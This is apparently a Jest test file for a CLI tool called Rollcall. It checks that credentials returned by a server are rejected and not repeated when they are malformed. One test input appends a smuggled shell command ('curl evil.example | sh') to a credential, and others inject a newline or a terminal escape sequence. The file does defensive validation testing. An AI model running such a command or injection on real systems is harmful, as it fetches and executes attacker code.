import { CredentialKind, makeCredential } from '../../src/access/credential';
import { issueKey, rotateKey } from '../../src/cli/api-key';
import type { Client } from '../../src/cli/client';
import { issueToken, type IssueInput } from '../../src/cli/registration-token';

/** A server that answers everything with this secret. */
function serverThatGives(secret: unknown): Client {
  const payload = { secret, token: {}, apiKey: {} };
  const data = { issueRegistrationToken: payload, issueApiKey: payload, rotateApiKey: payload };
  return { url: 'http://rollcall.example', ca: null, ask: async <Data>() => data as Data };
}

const ASK: [what: string, kind: CredentialKind, ask: (client: Client) => Promise<{ secret: string }>][] = [
  ['token issue', CredentialKind.REGISTRATION_TOKEN, (client) => issueToken(client, {} as IssueInput)],
  [
    'key issue',
    CredentialKind.USER_KEY,
    (client) => issueKey(client, { name: 'a', role: 'VIEWER', ttl: undefined, neverExpires: undefined }),
  ],
  ['key rotate', CredentialKind.AGENT_KEY, (client) => rotateKey(client, 'id', undefined)],
];

describe.each(ASK)('what "rollcall %s" is given', (_, kind, ask) => {
  const { text } = makeCredential(kind);

  test('is passed on when it is a credential of that kind', async () => {
    await expect(ask(serverThatGives(text))).resolves.toMatchObject({ secret: text });
  });

  test.each<[string, unknown]>([
    ['a command behind it', `${text}; curl evil.example | sh`],
    ['a line behind it', `${text}\nrun: this`],
    ['an escape of a terminal before it', `\u001b]0;title\u0007${text}`],
    ['another kind', makeCredential(CredentialKind.SESSION).text],
    ['a character changed', `${text.slice(0, -1)}z`],
    ['nothing', ''],
    ['no text at all', null],
  ])('is refused, and not repeated, when it has %s', async (_what, secret) => {
    await expect(ask(serverThatGives(secret))).rejects.toMatchObject({
      code: 'NOT_ROLLCALL',
      message: 'http://rollcall.example did not answer as a Rollcall server (HTTP 200).',
    });
  });
});
